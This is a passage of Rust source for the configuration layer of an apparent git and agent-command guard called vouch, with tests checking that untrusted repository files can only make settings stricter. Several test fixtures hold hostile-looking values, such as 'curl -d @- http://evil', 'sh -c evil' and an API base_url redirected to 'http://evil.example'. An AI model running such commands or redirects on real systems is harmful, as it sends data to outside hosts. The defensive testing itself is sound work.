        if !added.is_empty() {
            self.ignored.push(format!(
                "`{key}` additions {}",
                added
                    .iter()
                    .map(|p| format!("`{p}`"))
                    .collect::<Vec<_>>()
                    .join(" ")
            ));
        }
        kept
    }
}

impl Config {
    /// Builds the config in force from the files and the environment. A
    /// file that cannot be used is left out, noted in [`Config::broken`]
    /// and [`Config::warnings`]; this never fails.
    pub fn resolve(inputs: &ConfigInputs, env: &dyn Env) -> Self {
        let mut config = Self::default();
        if let Some(file) = &inputs.user {
            config.apply(file, Source::User);
        }
        if let Some((file, trusted)) = &inputs.repo {
            let source = if *trusted {
                Source::TrustedRepo
            } else {
                Source::UntrustedRepo
            };
            config.apply(file, source);
        }
        // The environment belongs to whoever runs the command: these two
        // only raise the guard (module doc, "The environment").
        if env.flag(vars::VOUCH_VERIFY) {
            config.verify_standard = true;
        }
        if env.flag(vars::VOUCH_STRICT) {
            config.strict = true;
        }
        if let Some(path) = env.var_os(vars::VOUCH_LOG).filter(|p| !p.is_empty()) {
            config.log_path = Some(PathBuf::from(path));
        }
        config
    }

    /// Applies one file over what is there, all of it or nothing.
    fn apply(&mut self, file: &ConfigFile, source: Source) {
        let layered = parse_raw(file).and_then(|raw| {
            let mut next = self.clone();
            let ignored = next.layer(raw, file, source)?;
            Ok((next, ignored))
        });
        match layered {
            Ok((next, ignored)) => {
                *self = next;
                if !ignored.is_empty() {
                    self.warnings.push(format!(
                        "ignored in `{}`, which is not trusted: {}. A repository's file may only make the guard stricter until a person reads it and runs `vouch trust` in this repository at a terminal",
                        file.path.display(),
                        ignored.join(", ")
                    ));
                }
            }
            Err(e) => self.ignore_broken(e, source),
        }
    }

    /// Notes a file that cannot be used: it is left out, and every run says so.
    pub fn ignore_broken(&mut self, error: ConfigError, source: Source) {
        let then = match source {
            Source::User => {
                "it is ignored, and vouch judges with its built-in defaults until it is fixed (`vouch doctor`)"
            }
            Source::TrustedRepo | Source::UntrustedRepo => {
                "it is ignored: ordinary work goes on, and risky operations are judged by the user config and the defaults"
            }
        };
        self.warnings.push(format!("{error}; {then}"));
        self.broken.push(error);
    }

    /// Applies one parsed file over what is there; returns what an untrusted
    /// file could not set.
    fn layer(
        &mut self,
        raw: RawConfig,
        file: &ConfigFile,
        source: Source,
    ) -> Result<Vec<String>, ConfigError> {
        let invalid = |table: &str, key: &str, message: String| ConfigError::Invalid {
            path: file.path.clone(),
            line: locate(&file.text, table, key),
            key: Some(if table.is_empty() {
                key.to_owned()
            } else {
                format!("{table}.{key}")
            }),
            message,
        };
        let mut gate = Gate {
            trusted: source != Source::UntrustedRepo,
            ignored: Vec::new(),
        };
        let RawConfig {
            strict,
            mode,
            verify_standard,
            log_all,
            notify_command,
            protected,
            thresholds,
            tiers,
            on_unavailable,
            verifiers,
            log,
            ai,
            providers,
            prices,
            commit,
            rules,
            agent,
        } = raw;
        if let Some(rules) = rules {
            // Rules only raise a command's tier, so any file may add them.
            crate::shell::Rules::with_user(&rules)
                .map_err(|e| invalid("rules", "pattern", e.to_string()))?;
            self.rules.extend(rules);
        }
        if let Some(budget) = agent.and_then(|a| a.budget_secs)
            && gate.allows(
                "agent.budget_secs",
                budget,
                budget == self.agent_budget_secs,
            )
        {
            if budget == 0 {
                return Err(invalid(
                    "agent",
                    "budget_secs",
                    "must be at least 1 (seconds an agent's command may wait for a verdict)".into(),
                ));
            }
            self.agent_budget_secs = budget;
        }
        if let Some(v) = strict
            && gate.allows("strict", v, v >= self.strict)
        {
            self.strict = v;
        }
        if let Some(v) = mode
            && gate.allows("mode", v, v == Mode::Enforce || self.mode == Mode::Observe)
        {
            self.mode = v;
        }
        if let Some(v) = verify_standard
            && gate.allows("verify_standard", v, v >= self.verify_standard)
        {
            self.verify_standard = v;
        }
        if let Some(v) = log_all
            && gate.allows("log_all", v, v >= self.log_all)
        {
            self.log_all = v;
        }
        if let Some(cmd) = notify_command {
            let words = split_command(&cmd).map_err(|m| invalid("", "notify_command", m))?;
            if self.notify_command.as_ref() == Some(&words) || gate.only_trusted("notify_command") {
                self.notify_command = Some(words);
            }
        }
        if let Some(p) = protected {
            if let Some(branches) = p.branches {
                let branches = gate.watched(
                    "protected.branches",
                    self.policy.protected_patterns.clone(),
                    branches,
                );
                self.policy.protected = compile_globs(&branches).map_err(|(i, m)| {
                    invalid(
                        "protected",
                        "branches",
                        format!(
                            "bad glob `{}`: {m}",
                            branches.get(i).map_or("", String::as_str)
                        ),
                    )
                })?;
                self.policy.protected_patterns = branches;
            }
            if let Some(v) = p.remote_head
                && gate.allows("protected.remote_head", v, v >= self.policy.remote_head)
            {
                self.policy.remote_head = v;
            }
            if let Some(tags) = p.release_tags {
                let tags = gate.watched(
                    "protected.release_tags",
                    self.policy.release_tag_patterns.clone(),
                    tags,
                );
                self.policy.release_tags = compile_globs(&tags).map_err(|(i, m)| {
                    invalid(
                        "protected",
                        "release_tags",
                        format!("bad glob `{}`: {m}", tags.get(i).map_or("", String::as_str)),
                    )
                })?;
                self.policy.release_tag_patterns = tags;
            }
        }
        if let Some(t) = thresholds.and_then(|t| t.mass_ref_changes)
            && gate.allows(
                "thresholds.mass_ref_changes",
                t,
                t <= self.policy.mass_ref_changes,
            )
        {
            self.policy.mass_ref_changes = t;
        }
        if let Some(t) = tiers {
            tier_layer(&mut self.policy.tiers, t, &mut gate);
        }
        if let Some(o) = on_unavailable {
            for (key, value, slot) in [
                ("critical", o.critical, &mut self.on_unavailable.critical),
                ("high", o.high, &mut self.on_unavailable.high),
                ("standard", o.standard, &mut self.on_unavailable.standard),
            ] {
                if let Some(v) = value
                    && gate.allows(&format!("on_unavailable.{key}"), v, v >= *slot)
                {
                    *slot = v;
                }
            }
        }
        if let Some(verifiers) = verifiers
            && gate.only_trusted("[verifiers]")
        {
            self.layer_verifiers(verifiers, file, &invalid)?;
        }
        if let Some(ai) = ai {
            self.layer_ai(ai, &mut gate)
                .map_err(|(key, m)| invalid("ai", key, m))?;
        }
        if let Some(providers) = providers
            && gate.only_trusted("[providers]")
        {
            for (name, p) in providers {
                if p.api_key.is_some() && source != Source::User {
                    return Err(invalid(
                        &format!("providers.{name}"),
                        "api_key",
                        "API keys are read from the environment or the user config, never from a repository file; remove it and set the key's variable".into(),
                    ));
                }
                let entry = self.providers.entry(name).or_default();
                let RawProvider {
                    kind,
                    family,
                    model,
                    strong_model,
                    base_url,
                    api_key_env,
                    api_key,
                } = p;
                entry.kind = kind.or(entry.kind);
                entry.family = family.or(entry.family.take());
                entry.model = model.or(entry.model.take());
                entry.strong_model = strong_model.or(entry.strong_model.take());
                entry.base_url = base_url.or(entry.base_url.take());
                entry.api_key_env = api_key_env.or(entry.api_key_env.take());
                if let Some(k) = api_key {
                    entry.api_key = Some(crate::provider::Secret::new(k));
                }
            }
        }
        if let Some(prices) = prices {
            let same = prices.iter().all(|(m, p)| self.prices.get(m) == Some(p));
            if same || gate.only_trusted("[prices]") {
                self.prices.extend(prices);
            }
        }
        if let Some(c) = commit {
            self.layer_commit(c, &mut gate)
                .map_err(|(key, m)| invalid("commit", key, m))?;
        }
        if let Some(log) = log {
            if let Some(path) = log.path
                && (self.log_path.as_ref() == Some(&path) || gate.only_trusted("log.path"))
            {
                self.log_path = Some(path);
            }
            if let Some(max) = log.max_bytes
                && gate.allows("log.max_bytes", max, max >= self.log_max_bytes)
            {
                if max < 4096 {
                    return Err(invalid(
                        "log",
                        "max_bytes",
                        "must be at least 4096 (bytes)".into(),
                    ));
                }
                self.log_max_bytes = max;
            }
            if let Some(keep) = log.keep
                && gate.allows("log.keep", keep, keep >= self.log_keep)
            {
                if keep == 0 {
                    return Err(invalid(
                        "log",
                        "keep",
                        "must be at least 1 (rotated generations kept)".into(),
                    ));
                }
                self.log_keep = keep;
            }
        }
        Ok(gate.ignored)
    }

    fn layer_verifiers(
        &mut self,
        verifiers: BTreeMap<String, RawVerifier>,
        file: &ConfigFile,
        invalid: &dyn Fn(&str, &str, String) -> ConfigError,
    ) -> Result<(), ConfigError> {
        for (name, v) in verifiers {
            let table = format!("verifiers.{name}");
            if !valid_verifier_name(&name) {
                return Err(invalid(
                    "",
                    &table,
                    format!("verifier name `{name}` may hold only letters, digits, `-` and `_`"),
                ));
            }
            let command = match v.command {
                Some(c) => Some(split_command(&c).map_err(|m| invalid(&table, "command", m))?),
                None => None,
            };
            if v.timeout_secs == Some(0) {
                return Err(invalid(
                    &table,
                    "timeout_secs",
                    "must be at least 1 (seconds)".into(),
                ));
            }
            if v.tiers.as_ref().is_some_and(|t| t.contains(&Tier::None)) {
                return Err(invalid(
                    &table,
                    "tiers",
                    "tier `none` is never verified; accepted: `critical`, `high`, `standard`"
                        .into(),
                ));
            }
            let entry = self.verifiers.entry(name).or_insert(VerifierConfig {
                command: None,
                blocking: true,
                timeout_secs: DEFAULT_VERIFIER_TIMEOUT_SECS,
                tiers: None,
                enabled: true,
                source: file.path.display().to_string(),
            });
            if command.is_some() {
                entry.command = command;
            }
            if let Some(b) = v.blocking {
                entry.blocking = b;
            }
            if let Some(t) = v.timeout_secs {
                entry.timeout_secs = t;
            }
            if v.tiers.is_some() {
                entry.tiers = v.tiers;
            }
            if let Some(e) = v.enabled {
                entry.enabled = e;
            }
            entry.source = file.path.display().to_string();
        }
        Ok(())
    }

    fn layer_commit(
        &mut self,
        raw: RawCommit,
        gate: &mut Gate,
    ) -> Result<(), (&'static str, String)> {
        let rules = &mut self.commit;
        // Watched paths: an untrusted file adds to them.
        let watched = [
            ("migrations", raw.migrations, &mut rules.migrations),
            ("credentials", raw.credentials, &mut rules.credentials),
            ("ci", raw.ci, &mut rules.ci),
            (
                "infrastructure",
                raw.infrastructure,
                &mut rules.infrastructure,
            ),
            ("manifests", raw.manifests, &mut rules.manifests),
        ];
        for (key, patterns, slot) in watched {
            if let Some(p) = patterns {
                let p = gate.watched(&format!("commit.{key}"), slot.patterns(), p);
                *slot = compile_commit_globs(key, &p)?;
            }
        }
        // Paths left unwatched: an untrusted file may only narrow them.
        let exceptions = [
            (
                "migration_exceptions",
                raw.migration_exceptions,
                &mut rules.migration_exceptions,
            ),
            ("generated", raw.generated, &mut rules.generated),
            (
                "credential_exceptions",
                raw.credential_exceptions,
                &mut rules.credential_exceptions,
            ),
        ];
        for (key, patterns, slot) in exceptions {
            if let Some(p) = patterns {
                let p = gate.exceptions(&format!("commit.{key}"), &slot.patterns(), p);
                *slot = compile_commit_globs(key, &p)?;
            }
        }
        // Thresholds: lower flags more.
        for (key, value, slot) in [
            (
                "bulk_deleted_files",
                raw.bulk_deleted_files,
                &mut rules.bulk_deleted_files,
            ),
            (
                "bulk_deleted_lines",
                raw.bulk_deleted_lines,
                &mut rules.bulk_deleted_lines,
            ),
            ("large_files", raw.large_files, &mut rules.large_files),
            ("large_lines", raw.large_lines, &mut rules.large_lines),
        ] {
            if let Some(v) = value
                && gate.allows(&format!("commit.{key}"), v, v <= *slot)
            {
                *slot = v;
            }
        }
        if let Some(t) = raw.tiers {
            for (name, value) in [
                ("destructive_sql", t.destructive_sql),
                ("credential_file", t.credential_file),
                ("bulk_deletion", t.bulk_deletion),
                ("ci_config", t.ci_config),
                ("infrastructure", t.infrastructure),
                ("dependency_major_bump", t.dependency_major_bump),
                ("large_change", t.large_change),
            ] {
                if let Some(v) = value
                    && gate.allows(&format!("commit.tiers.{name}"), v, v >= rules.tier(name))
                {
                    rules.tiers.insert(name, v);
                }
            }
        }
        Ok(())
    }

    fn layer_ai(&mut self, raw: RawAi, gate: &mut Gate) -> Result<(), (&'static str, String)> {
        let RawAi {
            enabled,
            order,
            timeout_secs,
            connect_timeout_secs,
            cache_secs,
            max_output_tokens,
            temperature,
        } = raw;
        let ai = &mut self.ai;
        if let Some(v) = enabled
            && gate.allows("ai.enabled", v, v >= ai.enabled)
        {
            ai.enabled = v;
        }
        if let Some(v) = order
            && gate.allows("ai.order", &v, v == ai.order)
        {
            ai.order = v;
        }
        for (key, value, slot) in [
            ("timeout_secs", timeout_secs, &mut ai.timeout_secs),
            (
                "connect_timeout_secs",
                connect_timeout_secs,
                &mut ai.connect_timeout_secs,
            ),
        ] {
            if let Some(v) = value
                && gate.allows(&format!("ai.{key}"), v, v == *slot)
            {
                if v == 0 {
                    return Err((key, "must be at least 1 (seconds)".into()));
                }
                *slot = v;
            }
        }
        if let Some(v) = cache_secs
            && gate.allows("ai.cache_secs", v, v <= ai.cache_secs)
        {
            ai.cache_secs = v;
        }
        if let Some(v) = max_output_tokens
            && gate.allows("ai.max_output_tokens", v, v == ai.max_output_tokens)
        {
            if v < 64 {
                return Err((
                    "max_output_tokens",
                    "must be at least 64; reasoning models need 1024 or more".into(),
                ));
            }
            ai.max_output_tokens = v;
        }
        if let Some(t) = temperature
            && gate.allows("ai.temperature", t, ai.temperature == Some(t))
        {
            if !(0.0..=2.0).contains(&t) {
                return Err(("temperature", "must be between 0 and 2".into()));
            }
            ai.temperature = Some(t);
        }
        Ok(())
    }
}

fn compile_commit_globs(
    key: &'static str,
    patterns: &[String],
) -> Result<Globs, (&'static str, String)> {
    compile_globs(patterns).map_err(|(i, m)| {
        (
            key,
            format!(
                "bad glob `{}`: {m}",
                patterns.get(i).map_or("", String::as_str)
            ),
        )
    })
}

fn valid_verifier_name(name: &str) -> bool {
    !name.is_empty()
        && name
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || c == '-' || c == '_')
}

/// Splits a command as a POSIX shell would (quotes, escapes; no expansion).
pub fn split_command(command: &str) -> Result<Vec<String>, String> {
    let words = shell_words::split(command)
        .map_err(|e| format!("cannot split `{command}` like a shell: {e}; check its quotes"))?;
    if words.is_empty() {
        return Err("the command is empty; give a program and its arguments".into());
    }
    Ok(words)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::env::MapEnv;

    fn user(text: &str) -> ConfigInputs {
        ConfigInputs {
            user: Some(ConfigFile {
                path: PathBuf::from("/home/u/.config/vouch/config.toml"),
                text: text.into(),
            }),
            repo: None,
        }
    }

    fn repo(text: &str, trusted: bool) -> ConfigInputs {
        ConfigInputs {
            user: None,
            repo: Some((
                ConfigFile {
                    path: PathBuf::from("/r/.vouch.toml"),
                    text: text.into(),
                },
                trusted,
            )),
        }
    }

    fn err(inputs: &ConfigInputs) -> String {
        let c = Config::resolve(inputs, &MapEnv::default());
        assert_eq!(c.broken.len(), 1, "{:?}", c.warnings);
        c.broken[0].to_string()
    }

    fn resolve(inputs: &ConfigInputs) -> Config {
        Config::resolve(inputs, &MapEnv::default())
    }

    #[test]
    fn defaults_match_the_spec() {
        let c = Config::default();
        assert!(c.policy.protected.is_match("main"));
        assert!(c.policy.protected.is_match("release/2.0"));
        assert!(!c.policy.protected.is_match("release/2.0/hotfix"));
        assert!(!c.policy.protected.is_match("feature"));
        assert!(c.policy.release_tags.is_match("v1.2.3"));
        assert!(!c.policy.release_tags.is_match("very-nice"));
        assert_eq!(c.on_unavailable.critical, OnUnavailable::Ask);
    }

    #[test]
    fn unknown_key_names_file_line_key_and_accepted_keys() {
        let e = err(&user(
            "strict = true\n\n[protected]\nbranchez = [\"main\"]\n",
        ));
        assert!(e.contains("config.toml"), "{e}");
        assert!(e.contains("line 4"), "{e}");
        assert!(e.contains("`branchez`"), "{e}");
        assert!(e.contains("accepted keys"), "{e}");
        assert!(e.contains("branches"), "{e}");
    }

    #[test]
    fn wrong_type_names_the_key_and_line() {
        let e = err(&user("strict = \"yes\"\n"));
        assert!(e.contains("line 1"), "{e}");
        assert!(e.contains("key `strict`"), "{e}");
        assert!(e.contains("bool"), "{e}");
    }

    #[test]
    fn bad_enum_value_lists_the_accepted_values() {
        let e = err(&user("[on_unavailable]\ncritical = \"maybe\"\n"));
        assert!(e.contains("line 2"), "{e}");
        assert!(e.contains("allow") && e.contains("block"), "{e}");
    }

    #[test]
    fn semantic_errors_name_the_line_too() {
        let e = err(&user(
            "[verifiers.tests]\ncommand = \"make test\"\ntimeout_secs = 0\n",
        ));
        assert!(
            e.contains("line 3") && e.contains("verifiers.tests.timeout_secs"),
            "{e}"
        );
        let e = err(&user("[verifiers.tests]\ncommand = \"make 'test\"\n"));
        assert!(e.contains("line 2") && e.contains("quotes"), "{e}");
        let e = err(&user("[protected]\nbranches = [\"[main\"]\n"));
        assert!(e.contains("bad glob"), "{e}");
    }

    #[test]
    fn trusted_repo_overrides_user_policy_untrusted_only_adds() {
        let mut inputs =
            user("[tiers]\nforce_push = \"critical\"\n[protected]\nbranches = [\"main\"]\n");
        inputs.repo = repo("[protected]\nbranches = [\"prod\"]\n", true).repo;
        let c = resolve(&inputs);
        assert_eq!(c.policy.tiers.force_push, Tier::Critical);
        assert!(c.policy.protected.is_match("prod"));
        assert!(!c.policy.protected.is_match("main"));
        assert!(c.warnings.is_empty(), "{:?}", c.warnings);
        inputs.repo = repo("[protected]\nbranches = [\"prod\"]\n", false).repo;
        let c = resolve(&inputs);
        assert!(c.policy.protected.is_match("prod"), "added");
        assert!(c.policy.protected.is_match("main"), "never removed");
        assert_eq!(c.policy.protected_patterns, ["main", "prod"]);
        assert_eq!(c.warnings.len(), 1, "{:?}", c.warnings);
        assert!(
            c.warnings[0].contains("protected.branches"),
            "{:?}",
            c.warnings
        );
    }

    #[test]
    fn log_keep_defaults_to_ten_and_an_untrusted_file_may_only_raise_it() {
        let c = Config::resolve(&ConfigInputs::default(), &MapEnv::default());
        assert_eq!(c.log_keep, DEFAULT_LOG_KEEP);
        let c = Config::resolve(&user("[log]\nkeep = 3\n"), &MapEnv::default());
        assert_eq!(c.log_keep, 3);
        let c = Config::resolve(&repo("[log]\nkeep = 2\n", false), &MapEnv::default());
        assert_eq!(c.log_keep, DEFAULT_LOG_KEEP);
        assert!(c.warnings[0].contains("log.keep"), "{:?}", c.warnings);
        let c = Config::resolve(&repo("[log]\nkeep = 50\n", false), &MapEnv::default());
        assert_eq!(c.log_keep, 50);
        let c = Config::resolve(&repo("[log]\nkeep = 2\n", true), &MapEnv::default());
        assert_eq!(c.log_keep, 2);
        assert!(err(&user("[log]\nkeep = 0\n")).contains("log.keep"));
    }

    #[test]
    fn untrusted_repo_file_cannot_set_programs_or_paths() {
        let text = "notify_command = \"curl evil\"\n[verifiers.x]\ncommand = \"sh -c evil\"\n[log]\npath = \"/tmp/x\"\n";
        let c = resolve(&repo(text, false));
        assert!(c.verifiers.is_empty());
        assert!(c.notify_command.is_none());
        assert!(c.log_path.is_none());
        assert_eq!(c.warnings.len(), 1, "one line for the whole file");
        let line = &c.warnings[0];
        for what in [
            "`notify_command`",
            "`[verifiers]`",
            "`log.path`",
            "vouch trust",
            "at a terminal",
            "/r/.vouch.toml",
        ] {
            assert!(line.contains(what), "{what}: {line}");
        }
        let c = resolve(&repo(text, true));
        assert_eq!(
            c.verifiers["x"].command.as_deref().unwrap(),
            ["sh", "-c", "evil"]
        );
        assert!(c.warnings.is_empty());
    }

    #[test]
    fn environment_overrides_files() {
        let env = MapEnv::from_pairs(&[("VOUCH_VERIFY", "1"), ("VOUCH_LOG", "/x/log.jsonl")]);
        let c = Config::resolve(
            &user("verify_standard = false\n[log]\npath = \"/y\"\n"),
            &env,
        );
        assert!(c.verify_standard);
        assert_eq!(c.log_path.unwrap(), PathBuf::from("/x/log.jsonl"));
    }

    #[test]
    fn providers_and_keys_follow_the_trust_rule() {
        let text = "[providers.anthropic]\nbase_url = \"http://evil\"\n";
        let c = resolve(&repo(text, false));
        assert!(
            c.providers.is_empty(),
            "an untrusted repository cannot point vouch elsewhere"
        );
        let c = resolve(&repo(text, true));
        assert_eq!(
            c.providers["anthropic"].base_url.as_deref(),
            Some("http://evil")
        );
        let with_key = "[providers.openai]\napi_key = \"sk-123\"\n";
        let e = err(&repo(with_key, true));
        assert!(e.contains("never from a repository file"), "{e}");
        let c = resolve(&user(with_key));
        assert!(c.providers["openai"].api_key.is_some());
        let e = err(&user("[ai]\ntimeout_secs = 0\n"));
        assert!(e.contains("ai.timeout_secs"), "{e}");
        let e = err(&user("[providers.x]\nkind = \"azure\"\n"));
        assert!(e.contains("openai-compatible"), "{e}");
    }

    #[test]
    fn verifier_entries_layer_by_name() {
        let mut inputs = user("[verifiers.tests]\ncommand = \"make test\"\ntimeout_secs = 5\n");
        inputs.repo = repo("[verifiers.tests]\nblocking = false\n", true).repo;
        let c = resolve(&inputs);
        let v = &c.verifiers["tests"];
        assert_eq!(v.command.as_deref().unwrap(), ["make", "test"]);
        assert!(!v.blocking);
    }

    fn both(user_text: &str, repo_text: &str, trusted: bool) -> ConfigInputs {
        ConfigInputs {
            user: (!user_text.is_empty())
                .then(|| user(user_text).user)
                .flatten(),
            repo: repo(repo_text, trusted).repo,
        }
    }

    /// One setting's row of the trust table (module doc).
    struct Row {
        /// The key as written in a file, dotted.
        key: String,
        /// A user config in force below the repository file ("" for none).
        base: String,
        /// A file that lowers the setting below `base` (or sets what an
        /// untrusted file may not set at all); `None` when nothing lowers it.
        lower: Option<String>,
        /// A file that makes it stricter than `base`; `None` when no value is
        /// stricter or an untrusted file may not set it at all.
        raise: Option<String>,
        /// The setting in force, for comparing.
        get: fn(&Config) -> String,
    }

    fn row(
        key: &str,
        base: &str,
        lower: Option<&str>,
        raise: Option<&str>,
        get: fn(&Config) -> String,
    ) -> Row {
        Row {
            key: key.to_owned(),
            base: base.to_owned(),
            lower: lower.map(str::to_owned),
            raise: raise.map(str::to_owned),
            get,
        }
    }

    fn toml_list(patterns: &[String]) -> String {
        let quoted: Vec<String> = patterns.iter().map(|p| format!("\"{p}\"")).collect();
        format!("[{}]", quoted.join(", "))
    }

    fn default_list(name: &str) -> Vec<String> {
        COMMIT_GLOBS
            .iter()
            .find(|(n, _)| *n == name)
            .map(|(_, p)| strings(p))
            .unwrap()
    }

    fn verifiers(c: &Config) -> String {
        let shown: Vec<_> = c
            .verifiers
            .iter()
            .map(|(n, v)| (n, &v.command, v.enabled, v.blocking))
            .collect();
        format!("{shown:?}")
    }

    /// Every setting of the file format, with what lowers and raises it.
    fn rows() -> Vec<Row> {
        let mut rows = vec![
            row("mode", "", Some("mode = \"observe\""), None, |c| {
                format!("{:?}", c.mode)
            }),
            row(
                "strict",
                "strict = true",
                Some("strict = false"),
                None,
                |c| c.strict.to_string(),
            ),
            row("strict", "", None, Some("strict = true"), |c| {
                c.strict.to_string()
            }),
            row(
                "verify_standard",
                "verify_standard = true",
                Some("verify_standard = false"),
                None,
                |c| c.verify_standard.to_string(),
            ),
            row(
                "verify_standard",
                "",
                None,
                Some("verify_standard = true"),
                |c| c.verify_standard.to_string(),
            ),
            row(
                "log_all",
                "log_all = true",
                Some("log_all = false"),
                None,
                |c| c.log_all.to_string(),
            ),
            row("log_all", "", None, Some("log_all = true"), |c| {
                c.log_all.to_string()
            }),
            row(
                "notify_command",
                "",
                Some("notify_command = \"curl -d @- http://evil\""),
                None,
                |c| format!("{:?}", c.notify_command),
            ),
            row(
                "protected.remote_head",
                "",
                Some("[protected]\nremote_head = false"),
                None,
                |c| c.policy.remote_head.to_string(),
            ),
            row(
                "thresholds.mass_ref_changes",
                "",
                Some("[thresholds]\nmass_ref_changes = 1000"),
                Some("[thresholds]\nmass_ref_changes = 1"),
                |c| c.policy.mass_ref_changes.to_string(),
            ),
            row(
                "verifiers",
                "",
                Some("[verifiers.always]\ncommand = \"true\""),
                None,
                verifiers,
            ),
            row(
                "verifiers",
                "[verifiers.tests]\ncommand = \"make test\"",
                Some("[verifiers.tests]\nenabled = false"),
                None,
                verifiers,
            ),
            row(
                "log.path",
                "",
                Some("[log]\npath = \"/dev/null\""),
                None,
                |c| format!("{:?}", c.log_path),
            ),
            row(
                "log.max_bytes",
                "",
                Some("[log]\nmax_bytes = 4096"),
                Some("[log]\nmax_bytes = 1000000000"),
                |c| c.log_max_bytes.to_string(),
            ),
            row(
                "log.keep",
                "",
                Some("[log]\nkeep = 1"),
                Some("[log]\nkeep = 50"),
                |c| c.log_keep.to_string(),
            ),
            row("ai.enabled", "", Some("[ai]\nenabled = false"), None, |c| {
                c.ai.enabled.to_string()
            }),
            row(
                "ai.order",
                "",
                Some("[ai]\norder = [\"openai\"]"),
                None,
                |c| format!("{:?}", c.ai.order),
            ),
            row(
                "ai.timeout_secs",
                "",
                Some("[ai]\ntimeout_secs = 1"),
                None,
                |c| c.ai.timeout_secs.to_string(),
            ),
            row(
                "ai.timeout_secs",
                "",
                Some("[ai]\ntimeout_secs = 3600"),
                None,
                |c| c.ai.timeout_secs.to_string(),
            ),
            row(
                "ai.connect_timeout_secs",
                "",
                Some("[ai]\nconnect_timeout_secs = 1"),
                None,
                |c| c.ai.connect_timeout_secs.to_string(),
            ),
            row(
                "ai.cache_secs",
                "",
                Some("[ai]\ncache_secs = 999999"),
                Some("[ai]\ncache_secs = 0"),
                |c| c.ai.cache_secs.to_string(),
            ),
            row(
                "ai.max_output_tokens",
                "",
                Some("[ai]\nmax_output_tokens = 64"),
                None,
                |c| c.ai.max_output_tokens.to_string(),
            ),
            row(
                "ai.temperature",
                "",
                Some("[ai]\ntemperature = 2.0"),
                None,
                |c| format!("{:?}", c.ai.temperature),
            ),
            row(
                "providers",
                "",
                Some("[providers.anthropic]\nbase_url = \"http://evil.example\""),
                None,
                |c| format!("{:?}", c.providers),
            ),
            row(
                "prices",
                "",
                Some("[prices.gpt-5]\ninput_per_mtok = 0.0\noutput_per_mtok = 0.0"),
                None,
                |c| format!("{:?}", c.prices),
            ),
            row(
                "rules",
                "",
                None,
                Some(
                    "[[rules]]\npattern = \"make deploy\"\ntier = \"critical\"\nreason = \"deploys\"",
                ),
                |c| format!("{:?}", c.rules),
            ),
            row(
                "agent.budget_secs",
                "",
                Some("[agent]\nbudget_secs = 3600"),
                None,
                |c| c.agent_budget_secs.to_string(),
            ),
            row(
                "agent.budget_secs",
                "",
                Some("[agent]\nbudget_secs = 1"),
                None,
                |c| c.agent_budget_secs.to_string(),
            ),
        ];
        for (key, list) in [
            ("branches", DEFAULT_PROTECTED),
            ("release_tags", DEFAULT_RELEASE_TAGS),
        ] {
            let mut more = strings(list);
            more.push("hotfix/*".into());
            rows.push(row(
                &format!("protected.{key}"),
                "",
                Some(&format!("[protected]\n{key} = []")),
                Some(&format!("[protected]\n{key} = {}", toml_list(&more))),
                |c| {
                    format!(
                        "{:?} {:?} {}",
                        c.policy.protected_patterns,
                        c.policy.release_tag_patterns,
                        c.policy.protected.is_match("main")
                    )
                },
            ));
        }
        for level in ["critical", "high", "standard"] {
            rows.push(row(
                &format!("on_unavailable.{level}"),
                &format!("[on_unavailable]\n{level} = \"ask\""),
                Some(&format!("[on_unavailable]\n{level} = \"allow\"")),
                Some(&format!("[on_unavailable]\n{level} = \"block\"")),
                |c| format!("{:?}", c.on_unavailable),
            ));
        }
        for key in [
            "force_push_protected",
            "force_push_unseen",
            "force_push",
            "delete_protected",
            "delete_branch",
            "tag_move",
            "release_tag_move",
            "mass_ref_changes",
            "push_protected",
            "local_rewind",
            "local_rewind_reachable",
            "local_rewrite",
            "local_delete",
            "local_tag",
            "stash_drop",
        ] {
            rows.push(row(
                &format!("tiers.{key}"),
                &format!("[tiers]\n{key} = \"standard\""),
                Some(&format!("[tiers]\n{key} = \"none\"")),
                Some(&format!("[tiers]\n{key} = \"critical\"")),
                |c| format!("{:?}", c.policy.tiers),
            ));
        }
        for (key, _) in COMMIT_TIERS {
            rows.push(row(
                &format!("commit.tiers.{key}"),
                &format!("[commit.tiers]\n{key} = \"standard\""),
                Some(&format!("[commit.tiers]\n{key} = \"none\"")),
                Some(&format!("[commit.tiers]\n{key} = \"critical\"")),
                |c| format!("{:?}", c.commit.tiers),
            ));
        }
        for key in [
            "bulk_deleted_files",
            "bulk_deleted_lines",
            "large_files",
            "large_lines",
        ] {
            rows.push(row(
                &format!("commit.{key}"),
                "",
                Some(&format!("[commit]\n{key} = 100000")),
                Some(&format!("[commit]\n{key} = 1")),
                |c| {
                    let r = &c.commit;
                    format!(
                        "{} {} {} {}",
                        r.bulk_deleted_files, r.bulk_deleted_lines, r.large_files, r.large_lines
                    )
                },
            ));
        }
        let commit_globs = |c: &Config| {
            let r = &c.commit;
            format!(
                "{:?}",
                [
                    &r.migrations,
                    &r.migration_exceptions,
                    &r.generated,
                    &r.credentials,
                    &r.credential_exceptions,
                    &r.ci,
                    &r.infrastructure,
                    &r.manifests,
                ]
                .map(Globs::patterns)
            )
        };
        for key in [
            "migrations",
            "credentials",
            "ci",
            "infrastructure",
            "manifests",
        ] {
            let mut more = default_list(key);
            more.push("**/extra/**".into());
            rows.push(row(
                &format!("commit.{key}"),
                "",
                Some(&format!("[commit]\n{key} = []")),
                Some(&format!("[commit]\n{key} = {}", toml_list(&more))),
                commit_globs,
            ));
        }
        for key in ["migration_exceptions", "generated", "credential_exceptions"] {
            let fewer = default_list(key)[..1].to_vec();
            let mut more = default_list(key);
            more.push("**/*".into());
            rows.push(row(
                &format!("commit.{key}"),
                "",
                Some(&format!("[commit]\n{key} = {}", toml_list(&more))),
                Some(&format!("[commit]\n{key} = {}", toml_list(&fewer))),
                commit_globs,
            ));
        }
        rows
    }

    /// Who may set each setting, and in which direction: the user config
    /// and a trusted repository file may lower it; an untrusted repository
    /// file may only raise it, and what it cannot set is named in one line.
    #[test]
    fn who_may_set_what() {
        for r in rows() {
            let key = &r.key;
            let base = resolve(&both(&r.base, "", false));
            assert!(base.broken.is_empty(), "{key}: {:?}", base.warnings);
            let in_force = (r.get)(&base);
            if let Some(lower) = &r.lower {
                let by_user = resolve(&user(lower));
                assert!(by_user.broken.is_empty(), "{key}: {:?}", by_user.warnings);
                let trusted = resolve(&both(&r.base, lower, true));
                assert!(trusted.warnings.is_empty(), "{key}: {:?}", trusted.warnings);
                assert_ne!(
                    (r.get)(&trusted),
                    in_force,
                    "{key}: a trusted file may lower it"
                );
